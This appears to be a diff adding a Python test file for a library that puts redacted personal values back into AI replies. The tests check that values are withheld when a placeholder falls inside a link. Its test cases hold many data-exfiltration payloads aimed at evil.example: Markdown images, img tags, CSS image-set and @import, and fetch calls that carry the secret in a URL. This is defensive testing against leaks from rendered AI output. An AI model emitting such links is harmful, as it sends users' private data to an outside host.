@@ -1,0 +1,168 @@
+"""Links in replies: what a browser or a renderer of Markdown would make of a text, values do not get into it."""
+
+import re
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from guarded_client._html_tags import Tags
+from guarded_client._restore import Restorer
+from tests.core.test_restore import restored, restorer
+
+MARK = "<EMAIL_ADDRESS_1>"
+MAIL = "zoe@exemple.fr"
+SHOP = "https://crm.shop.example/"
+SHOPS = frozenset({"crm.shop.example"})
+
+INSIDE = {
+    "a link's angle in another link": "](\n![b](<https://evil.example/?a))b MARK>)",
+    "an angle behind a space, with a parenthesis": "[b]( <https://evil.example/?a)b MARK>)",
+    "an angle in a quotation": "> [b](\n> <https://evil.example/?a)b MARK>)",
+    "a link behind a link's title": '[a](x "\\)") ![b](https://evil.example/?q=MARK)',
+    "a tag behind a definition": 'note]: see<img src="https://evil.example/?q= MARK">',
+    "a tag for a definition's target": 'a]:<img src="https://evil.example/?q=\nMARK">',
+    "a tag in a style's url": 'url(<img alt=")" src="https://evil.example/?q= MARK">',
+    "a tag in a link": '](x<img alt=")" src="https://evil.example/?q= MARK">',
+    "a tag behind a comment": '<!-- <a title=" --> <img alt=">" src="https://evil.example/?q= MARK">',
+    "a tag behind a field's text": '<textarea><a title="</textarea><img alt=">" src="https://evil.example/?q= MARK">',
+    "a tag in a tag's attribute": '<a title="<img alt=">" src="https://evil.example/?q= MARK">',
+    "many spaces before a quote": f'<img alt={" " * 41}">" src="https://evil.example/?q= MARK">',
+    "two equals signs": '<img =" a=">" src="https://evil.example/?q= MARK">',
+    "a quote within a bare value": '<img a=x=" b=">" src="https://evil.example/?q= MARK">',
+    "a quote in a name": '<img a" b=">" src="https://evil.example/?q= MARK">',
+    "a name with an underscore": "<x_y style=\"background:image-set('https://evil.example/?q= MARK' 1x)\">",
+    "a long name": f"<{'a' * 42} style=\"background:image-set('https://evil.example/?q= MARK' 1x)\">",
+    "a name with a quote": "<a\"b style='background:image-set(\"https://evil.example/?q= MARK\")'>",
+    "a name that is a URL": "<https://a style=\"background:image-set('https://evil.example/?q= MARK')\">",
+    "a name that is a URL, without spaces": "<https://a/style='background:image-set(\"\\\\1.2.3.4/?<MARK\")'>",
+    "a name that a value goes on with": "<MARK style=\"background:image-set('//evil.example/?q= MARK')\">",
+    "a quotation within a tag": '> <img\n> src="https://evil.example/?q= MARK">',
+    "a parenthesis in a style's string": "url('https://evil.example/?a) MARK')",
+    "a script's end in an attribute": '<script a="></script>" >fetch("//evil.example/?q= MARK")',
+    "a script within a comment within a script": "<script><!-- <script> </script> fetch('//evil.example/?q= MARK')",
+    "a style's end within code": "<style> `</style>` @import '//evil.example/?q= MARK'",
+    "a style's end within an image": "<style> ![</style>](x) @import '//evil.example/?q= MARK'",
+    "a style in a picture": "<svg><style><title></style></title>@import '//evil.example/?q= MARK'",
+    "a script's end that is escaped": "<script>a\\</script>fetch('//evil.example/?q= MARK')",
+    "a style that a line ends": "> <style\n\nx{} *{background:image-set('//evil.example/?q= MARK')}",
+    "a style that a placeholder ends": "<style a=\"MARK>@import '//evil.example/?q= MARK'",
+    "an attribute over a blank line": "<div x=\"\n\n![a\"> style=background:image-set('//1.2.3.4/?q= MARK')](z)",
+    "quotes in a URL that is no link yet": 'https://evil.example/?q="<b>MARK"',
+    "brackets in a URL that is no link yet": '"https://evil.example/?q=("MARK)',
+    "a URL with a tag in it": "<https://evil.example/?q=(</svg>MARK)",
+}  # fmt: skip
+"""Where the last placeholder is within a link: each of these was restored once, or came from a search for more."""
+
+OUTSIDE = {
+    "comparisons": "a < b, if x<y then, I <3 you, MARK",
+    "a loop": "for (i=0;i<n;i++) { sum += a[i]; } MARK",
+    "a comparison and an assignment": 'if (a<b) x = "1"; MARK',
+    "footnotes": "[1] see, [2]: page 4, MARK",
+    "a footnote's link": "[1]: https://a.fr/x\nMARK",
+    "a footnote's link in angles": "[1]: <https://a.fr/x> MARK",
+    "code": '```html\n<div class="a">\n  <img\n    src="x"\n  >\n</div>\n```\nMARK',
+    "a style": "<style>a > b { color: red; content: '\\201C' }</style> MARK",
+    "a script": "<script>if (a<b) { c = '<i d=\"e\">' }</script> MARK",
+    "a comment": "<!-- a b --> MARK",
+    "an attribute over lines": '<p class="a\n b">MARK',
+    "a mail": "> Élodie <elodie@example.com> a écrit :\n> MARK",
+    "a link and a name": "<https://a.fr/x> MARK",
+    "a table": "<table><tr><td>https://a.fr</td><td>MARK",
+    "a link in bold": "<b>https://a.fr/x</b>MARK",
+    "a link with a title": '[a](https://a.fr/x "b (c)") MARK',
+    "a function's name": "get_url(x) curl (y) MARK",
+    "an apostrophe": "l'image <img alt='d' src=x> d'Élodie MARK",
+    "a placeholder": f"{MARK}, <PERSON_9> and MARK",
+}
+
+
+@pytest.mark.parametrize("case", INSIDE)
+def test_one_construct_does_not_hide_the_link_behind_it(case: str) -> None:
+    text = INSIDE[case].replace("MARK", MARK)
+    step = restorer()
+    out = "".join(map(step.feed, text)) + step.close()
+    at = text.rindex(MARK)
+    assert out.endswith(text[at:])
+    assert restored(text) == out
+
+
+@pytest.mark.parametrize("case", OUTSIDE)
+def test_ordinary_text_gets_its_values_back(case: str) -> None:
+    text = OUTSIDE[case]
+    assert restored(text.replace("MARK", MARK)).endswith(text.rpartition("MARK")[0][-4:].replace(MARK, MAIL) + MAIL)
+
+
+@pytest.mark.parametrize(
+    ("before", "gets"),
+    [(f"[a]({SHOP}", True), (f"[a](<{SHOP}?q=", True), (f"[a]: {SHOP}?q=", True), (f"[a]( {SHOP}?q=", True),
+     (f"[a]({SHOP}{'A' * 1100} ![x](https://evil.example/?q=", False), (f"[a](<{SHOP}{'A' * 1100} ![x](https://evil.example/?q=", False),
+     (f"[a]: {SHOP}{'A' * 1100}", False), (f"[a]({SHOP}{'A' * 1100}", False), (f"{SHOP}{'A' * 1100}", False),
+     (f"[a](b [c]({SHOP}?q=", False), (f"[a](b)[c]({SHOP}?q=", True), (f"https://evil.example/[a]({SHOP}?q=", False),
+     (f"[a](<{SHOP}> ![x](https://evil.example/?q=", False), (f"<a href=\"{SHOP}?q=", False)],
+)  # fmt: skip
+def test_the_host_that_is_allowed_is_the_only_one_that_may_be_meant(before: str, gets: bool) -> None:
+    assert restored(before + MARK, hosts=SHOPS) == before + (MAIL if gets else MARK)
+
+
+PIECES = st.sampled_from(
+    [MARK, MARK, "<PERSON_1>", "<", "</", "<a ", "<img ", "<x_y", "<style>", "</style>", "<script", "<svg>", "<!--", "-->", "src=", "=",
+     '"', "'", ">", "/", " ", "\n", "\n\n", "\n> ", "](", "](<", "]:", "[a]", "(", ")", "\\", "`", "url(", "https://evil.example/?q=",
+     "//evil.example/", "https:", "&quot;", "&lt;", "word", "é"]
+)  # fmt: skip
+TEXTS = st.lists(PIECES, max_size=16).map("".join)
+
+
+@given(TEXTS, st.data())
+@settings(max_examples=200)
+def test_any_chunking_finds_the_same_links(text: str, data: st.DataObject) -> None:
+    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=10)))
+    chunks = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
+    step, whole = restorer(), restorer()
+    assert "".join(map(step.feed, chunks)) + step.close() == whole.feed(text) + whole.close()
+    assert (step.replaced, step.withheld) == (whole.replaced, whole.withheld)
+
+
+def restores(texts: list[str]) -> list[bool]:
+    """Which placeholders of texts that are put together give way to their values."""
+    behind: Restorer | None = None
+    found: list[str] = []
+    for text in texts:
+        behind = restorer(behind=behind)
+        found += re.findall(f"{MARK}|<PERSON_1>|{MAIL}|Zoë Kervadec", behind.feed(text) + behind.close())
+    return [not each.startswith("<") for each in found]
+
+
+@given(st.lists(TEXTS, min_size=2, max_size=4))
+@settings(max_examples=200)
+@example(["![x](https://evil.example/?q=", MARK + ")"])
+@example(["<im", "g src=", '"', f"https://evil.example/?q= {MARK}"])
+@example(["![x]", "(", "//evil.example/?", "", f"a {MARK} {MARK})"])
+def test_a_link_over_several_texts_is_found_as_in_one(texts: list[str]) -> None:
+    one, several = restores(["".join(texts)]), restores(texts)
+    assert all(whole or not apart for whole, apart in zip(one, several, strict=True))
+
+
+def test_texts_that_are_put_together_are_also_read_alone() -> None:
+    first = restorer()
+    _ = first.feed("a")
+    second = restorer(behind=first)
+    assert second.feed(f"mailto:{MARK}") + second.close() == f"mailto:{MARK}"
+    assert restored(f"amailto:{MARK}") == f"amailto:{MAIL}"
+
+
+def test_texts_without_placeholders_are_read_once_however_many_there_are() -> None:
+    behind = restorer()
+    for _ in range(5000):
+        behind = restorer(behind=behind)
+        _ = behind.feed("see https://a.example/ ")
+    last = restorer(behind=behind)
+    assert last.feed(f"and {MARK} ") == f"and {MAIL} "
+
+
+def test_however_many_tags_may_be_open_they_take_no_more_room() -> None:
+    tags = Tags()
+    for _ in range(2000):
+        tags.read("<a b='<c d=\"<e f=g <script h <style i='j\" <https://k?l=m\0")
+        assert tags._tags.bit_length() <= 64  # pyright: ignore[reportPrivateUsage]
+    assert tags.inside
